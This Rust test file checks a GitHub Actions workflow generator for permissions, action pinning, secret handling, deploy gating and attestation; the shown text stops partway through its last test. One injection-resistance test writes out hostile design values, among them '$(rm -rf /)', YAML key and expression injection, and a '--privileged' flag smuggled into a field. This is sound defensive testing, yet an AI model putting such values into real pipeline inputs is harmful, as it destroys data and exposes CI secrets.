use serde_json::Value;

use super::*;
use crate::model::{EnvVar, Job, JobKind, MatrixAxis, ServiceContainer};

fn parse(text: &str) -> Value {
    serde_norway::from_str(text).unwrap_or_else(|error| panic!("{error}\n{text}"))
}

fn workflows(design: &Design) -> Vec<(String, String)> {
    crate::generate(design)
        .files
        .into_iter()
        .filter(|file| file.path.starts_with(".github/workflows/"))
        .map(|file| (file.path, file.contents))
        .collect()
}

fn workflow(design: &Design, path: &str) -> Value {
    let bundle = crate::generate(design);
    let file = bundle
        .file(path)
        .unwrap_or_else(|| panic!("{path} is missing"));
    parse(&file.contents)
}

/// Every `${{ … }}` expression in the strings of a parsed workflow, outside the static `on:`
/// section (Actions evaluates no expressions there).
fn value_expressions(value: &Value) -> Vec<String> {
    fn walk(value: &Value, found: &mut Vec<String>) {
        match value {
            Value::String(text) => found.extend(expressions(text)),
            Value::Array(items) => items.iter().for_each(|item| walk(item, found)),
            Value::Object(map) => {
                map.iter()
                    .filter(|(key, _)| key.as_str() != "on")
                    .for_each(|(key, item)| {
                        found.extend(expressions(key));
                        walk(item, found)
                    })
            }
            _ => {}
        }
    }
    let mut found = Vec::new();
    walk(value, &mut found);
    found
}

/// Every `${{ … }}` expression of a text.
fn expressions(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        let after = &rest[start + 3..];
        let end = after.find("}}").unwrap_or(after.len());
        found.push(after[..end].trim().to_owned());
        rest = &after[end.min(after.len())..];
    }
    found
}

/// What Actions makes of a string: `${{ '$' }}` renders as `$`, the only expression design
/// text can contain.
fn rendered_by_actions(text: &str) -> String {
    text.replace("${{ '$' }}", "$")
}

fn uses_lines(text: &str) -> Vec<&str> {
    text.lines()
        .map(str::trim)
        .filter(|line| line.starts_with("uses:") || line.starts_with("- uses:"))
        .collect()
}

#[test]
fn every_preset_workflow_reads_back_as_a_workflow() {
    for preset in crate::presets::all() {
        let design = (preset.build)();
        let files = workflows(&design);
        assert!(files.len() >= 2, "{}", preset.id);
        for (path, text) in files {
            let value = parse(&text);
            assert!(text.starts_with("# "), "{path} has no header comment");
            assert!(value["on"].is_object(), "{} {path}", preset.id);
            assert_eq!(value["permissions"], serde_json::json!({}), "{path}");
            let jobs = value["jobs"].as_object().expect("jobs");
            assert!(!jobs.is_empty());
            for (id, job) in jobs {
                assert!(job["permissions"].is_object(), "{path} {id}");
                if let Some(called) = job["uses"].as_str() {
                    // CI's call of the deploy workflow: a job without steps.
                    assert_eq!(called, format!("./{}", deploy::PATH), "{path} {id}");
                    assert!(job.get("steps").is_none(), "{path} {id}");
                    continue;
                }
                assert!(job["steps"].as_array().is_some_and(|s| !s.is_empty()));
                for step in job["steps"].as_array().unwrap() {
                    if let Some(uses) = step["uses"].as_str() {
                        if uses.starts_with("actions/checkout@") {
                            assert_eq!(step["with"]["persist-credentials"], false, "{path} {id}");
                        }
                    }
                    assert!(step.get("continue-on-error").is_none(), "{path} {id}");
                }
                for need in job["needs"].as_array().into_iter().flatten() {
                    assert!(jobs.contains_key(need.as_str().unwrap()), "{path} {id}");
                }
            }
        }
    }
}

#[test]
fn ci_triggers_and_jobs_follow_the_design() {
    let design = crate::presets::find("fastapi-react").unwrap();
    let design = (design.build)();
    let ci = workflow(&design, ci::PATH);
    assert_eq!(ci["on"]["pull_request"]["branches"][1], "dev");
    // No workflow-level path filter: the `changes` job skips the unchanged half's jobs.
    assert!(ci["on"]["push"].get("paths").is_none());
    assert_eq!(
        ci["jobs"]["backend-test"]["if"],
        "needs.changes.outputs.api == 'true'"
    );
    assert_eq!(
        ci["jobs"]["frontend-test"]["if"],
        "needs.changes.outputs.frontend == 'true'"
    );
    assert_eq!(ci["jobs"]["ci-passed"]["if"], "always()");
    let bundle = crate::generate(&design);
    let text = &bundle.file(ci::PATH).unwrap().contents;
    let order: Vec<usize> = [
        "backend-lint:",
        "backend-test:",
        "frontend-test:",
        "security:",
        "build:",
    ]
    .iter()
    .map(|id| {
        text.find(&format!("\n  {id}\n"))
            .unwrap_or_else(|| panic!("{id}"))
    })
    .collect();
    assert!(
        order.windows(2).all(|pair| pair[0] < pair[1]),
        "jobs keep the design's order"
    );
    assert_eq!(
        ci["jobs"]["build"]["needs"],
        serde_json::json!([
            "changes",
            "backend-lint",
            "backend-test",
            "frontend-test",
            "security",
            "frontend-security"
        ])
    );
    let test = &ci["jobs"]["backend-test"];
    assert_eq!(
        test["services"]["postgres"]["options"],
        "--health-cmd pg_isready --health-interval 10s --health-timeout 5s --health-retries 5"
    );
    assert_eq!(test["defaults"]["run"]["working-directory"], "backend");
    assert_eq!(
        ci["jobs"]["frontend-test"]["strategy"]["matrix"]["node-version"],
        serde_json::json!(["20", "22"])
    );
    // A newer commit cancels the run it replaces, except a run that deploys (A20).
    assert_eq!(
        ci["concurrency"]["cancel-in-progress"],
        "${{ !(github.event_name == 'push' && (github.ref == 'refs/heads/main' || github.ref == 'refs/heads/dev')) }}"
    );
    let mut quiet = design.clone();
    quiet.pipeline.cancel_in_progress = false;
    let ci = workflow(&quiet, ci::PATH);
    assert_eq!(ci["concurrency"]["cancel-in-progress"], false);
}

#[test]
fn the_build_runs_only_on_pushes_to_deploy_branches() {
    let design = Design::default();
    let ci = workflow(&design, ci::PATH);
    let jobs = ci["jobs"].as_object().unwrap();
    let build = &jobs["build"];
    let guard = build["if"].as_str().unwrap();
    assert!(
        guard.starts_with("github.event_name == 'push' && "),
        "{guard}"
    );
    assert!(guard.contains("refs/heads/main"), "{guard}");
    assert!(!guard.contains("pull_request"), "{guard}");
    assert_eq!(build["permissions"]["packages"], "write");
    for (id, job) in jobs {
        if id != "build" && id != deploy::CALL_JOB {
            assert!(
                job.get("if").is_none(),
                "{id} must run on pull requests too"
            );
            assert!(job["permissions"].get("packages").is_none(), "{id}");
            assert!(job["permissions"].get("security-events").is_none(), "{id}");
        }
    }
    let steps = build["steps"].as_array().unwrap();
    let position = |needle: &str| {
        steps
            .iter()
            .position(|step| step.to_string().contains(needle))
            .unwrap_or_else(|| panic!("no step with {needle}"))
    };
    let build_step = &steps[position("docker/build-push-action@")];
    assert_eq!(build_step["with"]["cache-from"], "type=gha");
    assert_eq!(build_step["with"]["cache-to"], "type=gha,mode=max");
    assert_eq!(
        build_step["with"]["tags"],
        "${{ env.IMAGE_REPOSITORY }}:${{ github.sha }}"
    );
    assert!(position("\"exit-code\":\"1\"") < position("docker push"));
    assert_eq!(ci["env"]["IMAGE_REPOSITORY"], "ghcr.io/acme/app");
}

#[test]
fn production_waits_for_staging_and_its_environment() {
    let design = Design::default();
    let deploy = workflow(&design, deploy::PATH);
    let production = &deploy["jobs"]["deploy-production"];
    assert_eq!(production["needs"], serde_json::json!(["deploy-staging"]));
    assert_eq!(production["environment"]["name"], "production");
    assert_eq!(production["concurrency"]["cancel-in-progress"], false);
    let guard = production["if"].as_str().unwrap();
    assert_eq!(
        guard,
        "(github.event_name == 'push' || github.event_name == 'workflow_dispatch') && github.ref == 'refs/heads/main'"
    );
    assert!(
        !guard.contains("'dev'"),
        "production never deploys dev: {guard}"
    );
    let staging_guard = deploy["jobs"]["deploy-staging"]["if"].as_str().unwrap();
    assert!(staging_guard.contains("github.ref == 'refs/heads/dev'"));
    assert!(staging_guard.contains("github.ref == 'refs/heads/main'"));
    // A reusable workflow that CI calls, and a manual redeploy; never `workflow_run`.
    let on = deploy["on"].as_object().unwrap();
    let triggers: Vec<&str> = on.keys().map(String::as_str).collect();
    assert_eq!(triggers, ["workflow_call", "workflow_dispatch"]);
    let helm = deploy["jobs"]["deploy-production"]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|step| {
            step["run"]
                .as_str()
                .filter(|run| run.contains("helm upgrade"))
        })
        .unwrap();
    for part in [
        "helm upgrade --install app charts/app",
        "--values charts/app/values/production.yaml",
        "--set-string image.tag=\"$IMAGE_TAG\"",
        "--atomic --wait --timeout",
    ] {
        assert!(helm.contains(part), "{part}\n{helm}");
    }
    assert_eq!(deploy["env"]["IMAGE_TAG"], "${{ github.sha }}");
}

#[test]
fn ci_calls_the_deploy_workflow_after_the_build_on_deploy_branches() {
    for preset in crate::presets::all() {
        let design = (preset.build)();
        let ci = workflow(&design, ci::PATH);
        let call = &ci["jobs"][deploy::CALL_JOB];
        if !jobs::deploys(&design) {
            assert!(call.is_null(), "{}", preset.id);
            continue;
        }
        assert_eq!(
            call["uses"], "./.github/workflows/deploy.yml",
            "{}",
            preset.id
        );
        assert_eq!(call["needs"], serde_json::json!(["build"]), "{}", preset.id);
        assert_eq!(
            call["if"],
            ci::push_guard(&jobs::image_branches(&design)),
            "{}",
            preset.id
        );
        let promotes = design.environments.iter().any(|env| env.gitops());
        assert_eq!(
            call["permissions"]["contents"],
            if promotes { "write" } else { "read" },
            "{}: only a GitOps promotion writes (to its deploy branch)",
            preset.id
        );
        assert!(
            call.get("secrets").is_none(),
            "{}: no secrets: inherit",
            preset.id
        );
        assert!(call.get("steps").is_none() && call.get("runs-on").is_none());
        let deploy = workflow(&design, deploy::PATH);
        assert!(deploy["on"]["workflow_call"].is_object(), "{}", preset.id);
        for (id, job) in deploy["jobs"].as_object().unwrap() {
            // A called workflow's jobs get no more than the calling job grants.
            for (scope, level) in job["permissions"].as_object().unwrap() {
                assert_eq!(
                    &call["permissions"][scope], level,
                    "{} {id} {scope}",
                    preset.id
                );
            }
            assert_eq!(
                job["concurrency"]["cancel-in-progress"], false,
                "{} {id}",
                preset.id
            );
        }
    }
}

#[test]
fn the_deploy_call_passes_exactly_the_secrets_the_deploy_reads() {
    let mut design = Design::default();
    design.pipeline.registry = "registry.example.com".to_owned();
    let mut notify = Job::new("notify", JobKind::Notify, &["deploy-production"]);
    notify.env = vec![EnvVar::new(
        "SLACK_WEBHOOK_URL",
        "${{ secrets.SLACK_WEBHOOK_URL }}",
    )];
    design.pipeline.jobs.push(notify);
    let ci = workflow(&design, ci::PATH);
    let deploy = workflow(&design, deploy::PATH);
    let passed: Vec<&String> = ci["jobs"][deploy::CALL_JOB]["secrets"]
        .as_object()
        .unwrap()
        .keys()
        .collect();
    let declared: Vec<&String> = deploy["on"]["workflow_call"]["secrets"]
        .as_object()
        .unwrap()
        .keys()
        .collect();
    assert_eq!(passed, declared);
    assert!(
        passed.iter().any(|name| *name == "SLACK_WEBHOOK_URL"),
        "{passed:?}"
    );
    // Environment secrets stay with their environment; the job token is never passed.
    assert!(!passed
        .iter()
        .any(|name| *name == "KUBECONFIG" || *name == "GITHUB_TOKEN"));
    assert_eq!(
        ci["jobs"][deploy::CALL_JOB]["secrets"]["SLACK_WEBHOOK_URL"],
        "${{ secrets.SLACK_WEBHOOK_URL }}"
    );
    // A job without an environment still runs one at a time per branch.
    assert_eq!(
        deploy["jobs"]["notify"]["concurrency"]["cancel-in-progress"],
        false
    );
}

#[test]
fn no_step_writes_a_secret_to_the_environment_files() {
    for preset in crate::presets::all() {
        let design = (preset.build)();
        for (path, text) in workflows(&design) {
            // Comments may name the files; no line of YAML or script writes to them.
            for line in text
                .lines()
                .filter(|line| !line.trim_start().starts_with('#'))
            {
                assert!(!line.contains("GITHUB_ENV"), "{} {path}: {line}", preset.id);
                assert!(
                    !line.contains("GITHUB_PATH"),
                    "{} {path}: {line}",
                    preset.id
                );
            }
        }
        if !jobs::deploys(&design) {
            continue;
        }
        let deploy = workflow(&design, deploy::PATH);
        for (id, job) in deploy["jobs"].as_object().unwrap() {
            for step in job["steps"].as_array().unwrap() {
                let run = step["run"].as_str().unwrap_or("");
                if run.contains("helm ") || run.contains("kubectl ") {
                    assert_eq!(
                        step["env"]["KUBECONFIG"], "${{ runner.temp }}/kubeconfig",
                        "{} {id}",
                        preset.id
                    );
                }
            }
        }
    }
}

#[test]
fn every_preset_pins_every_action_to_a_commit_by_default() {
    for preset in crate::presets::all() {
        let design = (preset.build)();
        assert!(design.pipeline.pin_actions_to_sha, "{}", preset.id);
        for (path, text) in workflows(&design) {
            for line in uses_lines(&text) {
                let reference = line
                    .trim_start_matches("- ")
                    .trim_start_matches("uses:")
                    .trim();
                if reference.starts_with("./") {
                    continue;
                }
                let (_, pin) = reference
                    .split_once('@')
                    .unwrap_or_else(|| panic!("{line}"));
                let (sha, version) = pin.split_once(" # ").unwrap_or_else(|| panic!("{line}"));
                assert!(
                    sha.len() == 40 && sha.chars().all(|c| c.is_ascii_hexdigit()),
                    "{} {path}: {line}",
                    preset.id
                );
                assert!(
                    version.starts_with('v') && version.matches('.').count() == 2,
                    "{} {path}: {line}",
                    preset.id
                );
            }
        }
    }
    assert!(Design::default().pipeline.pin_actions_to_sha);
}

#[test]
fn service_images_pinned_by_tag_carry_their_reasoned_suppression() {
    let design = (crate::presets::find("node-api").unwrap().build)();
    let bundle = crate::generate(&design);
    let text = &bundle.file(ci::PATH).unwrap().contents;
    let line = text
        .lines()
        .find(|line| line.trim_start().starts_with("image: postgres:"))
        .expect("a postgres service");
    assert!(
        line.ends_with(&format!(" # {}", ci::SERVICE_IMAGE_BY_TAG)),
        "{line}"
    );
    let mut pinned = design.clone();
    for job in &mut pinned.pipeline.jobs {
        for service in &mut job.services {
            service.image = format!("postgres:15@sha256:{}", "0".repeat(64));
        }
    }
    let bundle = crate::generate(&pinned);
    let text = &bundle.file(ci::PATH).unwrap().contents;
    assert!(!text.contains("unpinned-images"), "{text}");
}

#[test]
fn deploys_neither_rebuild_nor_restore_caches_nor_interpolate_secrets() {
    for preset in crate::presets::all() {
        let design = (preset.build)();
        let Some(file) = crate::generate(&design)
            .files
            .into_iter()
            .find(|file| file.path == deploy::PATH)
        else {
            continue;
        };
        let text = file.contents;
        for forbidden in [
            "actions/cache",
            "cache-from",
            "docker build ",
            "buildx build",
            "build-push-action",
        ] {
            assert!(!text.contains(forbidden), "{} {forbidden}", preset.id);
        }
        let value = parse(&text);
        for (id, job) in value["jobs"].as_object().unwrap() {
            for step in job["steps"].as_array().unwrap() {
                if let Some(run) = step["run"].as_str() {
                    assert!(!run.contains("${{"), "{} {id}: {run}", preset.id);
                }
            }
        }
    }
}

#[test]
fn railway_only_designs_get_no_deploy_workflow_and_push_no_image() {
    let design = (crate::presets::find("worker-cron").unwrap().build)();
    let bundle = crate::generate(&design);
    assert!(bundle.file(deploy::PATH).is_none());
    let ci = parse(&bundle.file(ci::PATH).unwrap().contents);
    let build = ci["jobs"]["build"].to_string();
    assert!(!build.contains("docker push"), "{build}");
    assert!(!build.contains("packages"), "{build}");
    assert!(build.contains("trivy-action"), "{build}");
}

#[test]
fn the_security_workflow_is_scheduled_and_uploads_sarif() {
    let design = (crate::presets::find("fastapi-react").unwrap().build)();
    let security = workflow(&design, security::PATH);
    assert_eq!(security["on"]["schedule"][0]["cron"], "0 0 * * 0");
    assert!(security["on"]["workflow_dispatch"].is_object());
    let jobs = security["jobs"].as_object().unwrap();
    assert!(jobs.contains_key("audit-python"), "{jobs:?}");
    assert!(jobs.contains_key("audit-node"), "{jobs:?}");
    for (id, job) in jobs {
        let uploads = job["steps"].to_string().contains("upload-sarif");
        assert_eq!(
            job["permissions"].get("security-events").is_some(),
            uploads,
            "{id}: security-events only where SARIF is uploaded"
        );
    }
    let mut broken = design.clone();
    broken.pipeline.triggers.security_schedule = "every sunday\n- evil".to_owned();
    let security = workflow(&broken, security::PATH);
    assert_eq!(security["on"]["schedule"][0]["cron"], "0 0 * * 0");
}

#[test]
fn sha_pins_are_full_commits_with_the_release_as_comment() {
    let mut design = (crate::presets::find("node-api").unwrap().build)();
    design.pipeline.pin_actions_to_sha = true;
    for (path, text) in workflows(&design) {
        let lines = uses_lines(&text);
        assert!(!lines.is_empty(), "{path}");
        for line in lines
            .into_iter()
            .filter(|line| !line.contains("./.github/"))
        {
            let (_, reference) = line.split_once('@').unwrap_or_else(|| panic!("{line}"));
            let (sha, comment) = reference
                .split_once(" # ")
                .unwrap_or_else(|| panic!("{line}"));
            assert_eq!(sha.len(), 40, "{line}");
            assert!(sha
                .chars()
                .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase()));
            assert!(
                comment.starts_with('v') && comment.matches('.').count() == 2,
                "{line}"
            );
        }
        let value = parse(&text);
        assert!(value["jobs"].is_object());
    }
    design.pipeline.pin_actions_to_sha = false;
    for (_, text) in workflows(&design) {
        for line in uses_lines(&text)
            .into_iter()
            .filter(|line| !line.contains("./.github/"))
        {
            let (_, tag) = line.split_once('@').unwrap();
            assert!(tag.starts_with('v') && !tag.contains(' '), "{line}");
        }
    }
}

#[test]
fn the_action_table_pins_each_action_once_to_a_commit() {
    let mut seen = Vec::new();
    for action in ActionRef::ALL {
        let (path, tag, sha) = action.pin();
        assert!(!seen.contains(&path), "{path} twice");
        seen.push(path);
        assert_eq!(sha.len(), 40, "{path}");
        assert!(sha.chars().all(|c| matches!(c, '0'..='9' | 'a'..='f')));
        assert!(tag.starts_with('v'), "{path}");
    }
}

#[test]
fn cache_keys_match_the_trigger_simulator() {
    for preset in crate::presets::all() {
        let design = (preset.build)();
        let ci = workflow(&design, ci::PATH);
        for job in &design.pipeline.jobs {
            let Some(expected) = crate::simulate::cache_key(&design, job) else {
                continue;
            };
            let steps = ci["jobs"][job.id.as_str()]["steps"].to_string();
            assert!(
                steps.contains(&serde_json::to_string(&expected).unwrap()),
                "{} {}: {expected}\n{steps}",
                preset.id,
                job.id
            );
            let prefix = expected.split("${{ hashFiles").next().unwrap();
            assert!(steps.contains(&format!("\"restore-keys\":\"{prefix}\\n\"")));
        }
    }
}

#[test]
fn job_ids_are_sanitised_and_needs_follow_them() {
    let mut design = Design::default();
    design.pipeline.jobs = vec![
        Job::new("Lint it!", JobKind::Lint, &[]),
        Job::new("9tests", JobKind::Test, &["Lint it!"]),
        Job::new("lint-it", JobKind::Security, &["9tests", "missing"]),
        Job::new("build", JobKind::Build, &["lint-it", "build"]),
        Job::new("loop-a", JobKind::Test, &["loop-b"]),
        Job::new("loop-b", JobKind::Test, &["loop-a"]),
    ];
    let ci = workflow(&design, ci::PATH);
    let jobs = ci["jobs"].as_object().unwrap();
    let mut ids: Vec<&str> = jobs.keys().map(String::as_str).collect();
    ids.sort_unstable();
    assert_eq!(
        ids,
        [
            "Lint-it",
            "build",
            "job-9tests",
            "lint-it-2",
            "loop-a",
            "loop-b"
        ]
    );
    assert_eq!(jobs["job-9tests"]["needs"], serde_json::json!(["Lint-it"]));
    assert_eq!(
        jobs["lint-it-2"]["needs"],
        serde_json::json!(["job-9tests"])
    );
    assert_eq!(jobs["build"]["needs"], serde_json::json!(["lint-it-2"]));
    assert_eq!(jobs["loop-a"]["needs"], serde_json::json!(["loop-b"]));
    assert!(jobs["loop-b"].get("needs").is_none(), "the cycle is broken");
}

#[test]
fn hostile_design_text_cannot_inject_keys_steps_or_expressions() {
    let hostile = "x\"\n  evil: true\n${{ github.token }} $(rm -rf /) '}} ${var.x}";
    let mut design = crate::presets::for_runtime(crate::model::Runtime::Node);
    design.project.name = hostile.to_owned();
    design.services[0].name = hostile.to_owned();
    design.services[0].directory = hostile.to_owned();
    design.repository.slug = hostile.to_owned();
    design.repository.default_branch = "main' || true || '".to_owned();
    design.pipeline.triggers.push_branches = vec![hostile.to_owned()];
    design.pipeline.triggers.pull_request_branches = vec!["${{ github.token }}".to_owned()];
    design.pipeline.paths = vec![hostile.to_owned()];
    design.pipeline.registry = hostile.to_owned();
    design.environments[0].name = hostile.to_owned();
    design.environments[0].url = hostile.to_owned();
    design.environments[0].branch = "dev'}} ${{ secrets.KUBECONFIG }}".to_owned();
    for job in &mut design.pipeline.jobs {
        job.name = hostile.to_owned();
        job.runs_on = hostile.to_owned();
        job.working_directory = hostile.to_owned();
        job.commands = vec![
            format!("echo {hostile}"),
            "echo ${{ secrets.KUBECONFIG }}".to_owned(),
        ];
        job.env = vec![
            EnvVar::new(hostile, hostile),
            EnvVar::new("TOKEN", "${{ secrets.DEPLOY_TOKEN }}"),
            EnvVar::new("LEAK", "${{ secrets.X }} ${{ github.token }}"),
        ];
        job.cache.paths = vec![hostile.to_owned()];
        job.cache.key_files = vec![hostile.to_owned()];
        job.matrix = vec![MatrixAxis {
            name: hostile.to_owned(),
            values: vec![hostile.to_owned()],
        }];
        job.services = vec![ServiceContainer {
            name: hostile.to_owned(),
            image: hostile.to_owned(),
            env: vec![EnvVar::new(hostile, hostile)],
            ports: vec![hostile.to_owned()],
            health_cmd: format!("pg_isready\" --privileged \"{hostile}"),
        }];
        if job.kind == JobKind::Deploy && job.environment == "staging" {
            job.environment = hostile.to_owned();
        }
    }
    design.pipeline.jobs[0].id = hostile.to_owned();
    let allowed = |expression: &str| {
        expression == "'$'"
            || expression == "secrets.DEPLOY_TOKEN"
            || expression == "secrets.X"
            || expression.starts_with("github.")
                && !expression.contains("token")
                && !expression.contains("KUBECONFIG")
            || expression.starts_with("env.")
            || expression.starts_with("matrix.")
            || expression.starts_with("runner.os")
            || expression == "runner.temp"
            // rollback.yml's inputs, which reach its scripts only through `env`.
            || matches!(expression, "inputs.revision" | "inputs.service" | "inputs.environment")
            // CI's concurrency: a run that deploys is never cancelled.
            || expression.starts_with("!(github.event_name == 'push'")
            || expression.starts_with("strategy.")
            || expression.starts_with("hashFiles(")
            || expression.starts_with("!cancelled()")
            || expression == "secrets.GITHUB_TOKEN"
            || expression == "secrets.REGISTRY_USERNAME"
            || expression == "secrets.REGISTRY_PASSWORD"
            || expression == "secrets.KUBECONFIG"
            || expression == "vars.AWS_DEPLOY_ROLE_ARN"
            // A literal secret in a job env is replaced by a reference to a secret named after
            // the (sanitised) variable.
            || expression.strip_prefix("secrets.").is_some_and(|name| {
                name.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
            })
    };
    for (path, text) in workflows(&design) {
        let value = parse(&text);
        for expression in value_expressions(&value) {
            assert!(allowed(&expression), "{path}: `{expression}`\n{text}");
        }
        let top: Vec<&String> = value.as_object().unwrap().keys().collect();
        assert!(!top.iter().any(|key| key.contains("evil")), "{path}");
        for (id, job) in value["jobs"].as_object().unwrap() {
            assert!(
                id.chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'),
                "{path}: job id {id}"
            );
            assert!(job.get("evil").is_none(), "{path} {id}");
            for key in job["env"].as_object().into_iter().flatten().map(|(k, _)| k) {
                assert!(
                    key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'),
                    "{path} {id}: env {key}"
                );
            }
            if let Some(options) = job["services"]
                .as_object()
                .and_then(|services| services.values().next())
                .and_then(|service| service["options"].as_str())
            {
                assert!(!options.contains("\" --privileged"), "{options}");
            }
            for step in job["steps"].as_array().into_iter().flatten() {
                if let Some(run) = step["run"].as_str() {
                    if run.contains("echo x") {
                        assert_eq!(rendered_by_actions(run), format!("echo {hostile}\n"));
                    }
                    if run.contains("KUBECONFIG }}") {
                        assert_eq!(rendered_by_actions(run), "echo ${{ secrets.KUBECONFIG }}\n");
                    }
                }
            }
            // rollback.yml's jobs carry only its inputs.
            if let Some(env) = job["env"]
                .as_object()
                .filter(|env| !env.contains_key("REVISION"))
            {
                assert_eq!(env["TOKEN"], "${{ secrets.DEPLOY_TOKEN }}");
                assert_eq!(
                    rendered_by_actions(env["LEAK"].as_str().unwrap()),
                    "${{ secrets.X }} ${{ github.token }}"
                );
            }
            if let Some(guard) = job["if"].as_str() {
                assert!(!guard.contains("|| true ||"), "{path} {id}: {guard}");
                assert!(!guard.contains("}}"), "{path} {id}: {guard}");
            }
        }
    }
}

#[test]
fn inert_text_renders_back_unchanged() {
    for text in [
        "${{ github.token }}",
        "a $${{x}} b",
        "${{",
        "plain",
        "$ {{ x }}",
    ] {
        let made_inert = inert(text);
        assert_eq!(rendered_by_actions(&made_inert), text);
        assert!(
            expressions(&made_inert).iter().all(|e| e == "'$'"),
            "{made_inert}"
        );
    }
    assert_eq!(
        reference(" ${{secrets.DB_URL}} ").as_deref(),
        Some("${{ secrets.DB_URL }}")
    );
    assert_eq!(reference("${{ secrets.A }} ${{ github.token }}"), None);
    assert_eq!(reference("${{ github.token }}"), None);
}

#[test]
fn deploy_branches_follow_promotion_chains_and_notify_jobs_inherit_them() {
    let mut design = Design::default();
    design.environments[0].branch = "develop".to_owned();
    design.environments[1].branch = "main".to_owned();
    let staging = design.environments[0].name.clone();
    let production = design.environments[1].name.clone();
    let mut to_staging = Job::new("to-staging", JobKind::Deploy, &[]);
    to_staging.environment = staging;
    let mut to_production = Job::new("to-production", JobKind::Deploy, &["to-staging"]);
    to_production.environment = production;
    // Listed before what they wait for: the plan must not depend on the list order.
    let announce = Job::new("announce", JobKind::Deploy, &["notify"]);
    let notify = Job::new("notify", JobKind::Deploy, &["to-staging", "to-production"]);
    design.pipeline.jobs = vec![announce, notify, to_staging, to_production];
    let branches = |index| jobs::branches_of_job(&design, index).unwrap();
    // Staging also runs for main: production waits for it there.
    assert_eq!(branches(2), ["main", "develop"]);
    assert_eq!(branches(3), ["main"]);
    assert_eq!(branches(1), ["main", "develop"]);
    assert_eq!(branches(0), ["main", "develop"]);
}

#[test]
fn a_design_without_ci_jobs_gets_a_ci_workflow_that_fails_and_says_why() {
    let mut design = Design::default();
    design.pipeline.jobs.retain(|job| !jobs::is_ci_job(job));
    let ci = workflow(&design, ci::PATH);
    let jobs = ci["jobs"].as_object().expect("jobs");
    assert_eq!(jobs.keys().collect::<Vec<_>>(), ["no-checks"]);
    let script = jobs["no-checks"]["steps"][0]["run"].as_str().unwrap();
    assert!(
        script.contains("::error::") && script.contains("exit 1"),
        "{script}"
    );
}

#[test]
fn keyless_deploys_ask_for_the_oidc_token_and_read_no_kubeconfig() {
    use crate::model::CloudAuth;
    for preset in crate::presets::all() {
        for auth in [CloudAuth::Oidc, CloudAuth::KubeconfigSecret] {
            let mut design = (preset.build)();
            design.pipeline.cloud_auth = auth;
            let keyless = crate::facts::cloud::keyless(&design);
            let mut assuming = 0;
            for (path, text) in workflows(&design) {
                let at = format!("{} {auth:?} {path}", preset.id);
                if keyless {
                    assert!(!text.contains("secrets.KUBECONFIG"), "{at}");
                    assert!(!text.contains("AWS_SECRET_ACCESS_KEY"), "{at}");
                }
                for (id, job) in parse(&text)["jobs"].as_object().unwrap() {
                    let token = job["permissions"]["id-token"] == "write";
                    let Some(steps) = job["steps"].as_array() else {
                        // CI's call of deploy.yml grants what its keyless jobs need.
                        assert_eq!(token, keyless && jobs::deploys(&design), "{at} {id}");
                        continue;
                    };
                    let assume = steps.iter().find(|step| {
                        step["uses"].as_str().is_some_and(|uses| {
                            uses.starts_with("aws-actions/configure-aws-credentials@")
                        })
                    });
                    let attests = steps.iter().any(|step| {
                        step["uses"].as_str().is_some_and(|uses| {
                            uses.starts_with("actions/attest-build-provenance@")
                        })
                    });
                    assert_eq!(assume.is_some() || attests, token, "{at} {id}");
                    let Some(assume) = assume else { continue };
                    assuming += 1;
                    assert!(keyless, "{at} {id}");
                    assert!(
                        !serde_json::to_string(job)
                            .unwrap()
                            .replace("secrets.GITHUB_TOKEN", "")
                            .contains("secrets."),
                        "{at} {id}"
                    );
                    assert_eq!(
                        assume["with"]["role-to-assume"],
                        "${{ vars.AWS_DEPLOY_ROLE_ARN }}"
                    );
                    assert_eq!(assume["with"]["aws-region"], "us-east-1", "{at} {id}");
                }
            }
            assert_eq!(
                assuming > 0,
                keyless && jobs::deploys(&design),
                "{}",
                preset.id
            );
        }
    }
}

#[test]
fn pushed_images_are_attested_and_deployed_by_their_digest() {
    let mut design = (crate::presets::find("web-api-worker").unwrap().build)();
    let ci = workflow(&design, ci::PATH);
    let build = &ci["jobs"]["build"];
    assert_eq!(build["permissions"]["attestations"], "write");
    assert_eq!(build["permissions"]["id-token"], "write");
    assert_eq!(
        build["outputs"]["digest_api"],
        "${{ steps.push-api.outputs.digest }}"
    );
    let steps = build["steps"].as_array().unwrap();
    let push = steps.iter().position(|s| s["id"] == "push-api").unwrap();
    assert_eq!(
        steps[push + 1]["with"]["subject-digest"],
        "${{ steps.push-api.outputs.digest }}"
    );
    assert_eq!(steps[push + 1]["with"]["push-to-registry"], true);
    assert!(steps[push + 2]["uses"]
        .as_str()
        .unwrap()
        .starts_with("anchore/sbom-action@"));
    // The SBOM is attested to the registry for the pushed digest, not as a file of the run.
    let sbom = &steps[push + 3];
    assert!(sbom["uses"]
        .as_str()
        .unwrap()
        .starts_with("actions/attest@"));
    assert_eq!(
        sbom["with"]["subject-name"],
        "${{ env.IMAGE_REPOSITORY_API }}"
    );
    assert_eq!(
        sbom["with"]["subject-digest"],
        "${{ steps.push-api.outputs.digest }}"
    );
    assert_eq!(
        sbom["with"]["sbom-path"],
        steps[push + 2]["with"]["output-file"]
    );
    assert_eq!(sbom["with"]["push-to-registry"], true);
    assert_eq!(
        ci["jobs"]["deploy"]["with"]["digest_api"],
        "${{ needs.build.outputs.digest_api }}"
    );
    assert_eq!(ci["jobs"]["deploy"]["permissions"]["attestations"], "read");
    let deploy = workflow(&design, deploy::PATH);
    assert_eq!(
        deploy["on"]["workflow_call"]["inputs"]["digest_api"]["default"],
        ""
    );
    let text = serde_json::to_string(&deploy["jobs"]).unwrap();
    assert!(
        text.contains("image.digest=\\\"$IMAGE_DIGEST\\\""),
        "{text}"
    );
    assert!(text.contains("gh attestation verify"), "{text}");
    assert!(
        text.contains("--predicate-type https://spdx.dev/Document/v2.3"),
        "{text}"
    );

    design.pipeline.verify_attestations = false;
    let text = serde_json::to_string(&workflow(&design, deploy::PATH)).unwrap();
    assert!(!text.contains("gh attestation") && !text.contains("attestations"));
    assert!(text.contains("image.digest"));

    design.pipeline.attest_images = false;
    let ci = workflow(&design, ci::PATH);
    let build = &ci["jobs"]["build"];
    assert!(build["permissions"].get("id-token").is_none());
    assert!(!serde_json::to_string(build).unwrap().contains("attest"));
